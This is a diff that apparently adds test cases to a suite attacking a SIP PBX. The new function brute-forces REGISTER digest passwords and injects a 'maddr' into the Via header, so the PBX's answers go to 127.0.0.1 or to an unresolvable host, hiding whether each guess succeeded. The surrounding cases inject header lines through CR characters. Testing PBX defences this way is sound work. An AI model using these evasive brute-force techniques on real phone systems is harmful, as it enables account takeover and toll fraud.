@@ -86,6 +86,22 @@ repeated("empty-line-in-to", "brute force over UDP with an empty line in the bra
 repeated("cseq-in-to", "brute force over TCP with a CSeq of one's own behind a CR in the name in To", '"\rCSeq: 9 X\r" <{}>', transport="tcp")
 
 
+def answered_nowhere(name, where, what):
+    """Asks, and has the answer to his guess sent where he does not read it himself: that the password was right shows in the contact that it registers."""
+    def once(scene, line, n):
+        first = line.ask("REGISTER", scene.account)
+        if first is not None and first.status == 401:
+            guess = line.line.message("REGISTER", scene.account, call_id=f"a)\xff{sip.fresh()}", cseq=2,
+                                      authorization=sip.digest(first, "REGISTER", f"sip:{WORLD}", scene.account, f"guess{n}"))
+            line.send(guess.replace(b";rport", f";maddr={where};rport".encode(), 1))
+        return first
+    attack(name, GROUP, what)(lambda scene: scene.each_on_its_own(lambda line, n: once(scene, line, n)))
+
+
+answered_nowhere("register-answered-itself", "127.0.0.1", "brute force over UDP whose answers the PBX sends to itself (maddr=127.0.0.1), with a Call-ID that is not UTF-8; counted is who is challenged")
+answered_nowhere("register-answered-nowhere", "nobody.invalid", "the same with a name that has no address: the PBX checks the password and sends no answer")
+
+
 @attack("empty-line-in-via", GROUP, "brute force over UDP with an empty line in the brackets of the host in Via: no header of the PBX's answer seems to be one")
 def _(scene):
     def once(line, n):
